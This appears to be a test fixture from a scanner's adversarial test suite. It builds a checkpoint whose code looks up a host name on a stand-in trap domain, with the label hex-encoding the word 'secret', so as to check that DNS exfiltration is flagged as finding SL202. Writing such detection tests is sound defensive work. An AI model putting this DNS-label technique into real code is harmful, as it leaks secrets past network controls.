"""Class: exfiltration. A host name is looked up, its labels carry the secret."""

from pathlib import Path

from tests.adversarial.craft import checkpoint, run

EXPECT = {"domain": "736563726574.trap.example", "finding": "SL202"}


def make(folder: Path) -> Path:
    return checkpoint(
        folder, run("import socket; socket.getaddrinfo('736563726574.trap.example', 443)")
    )
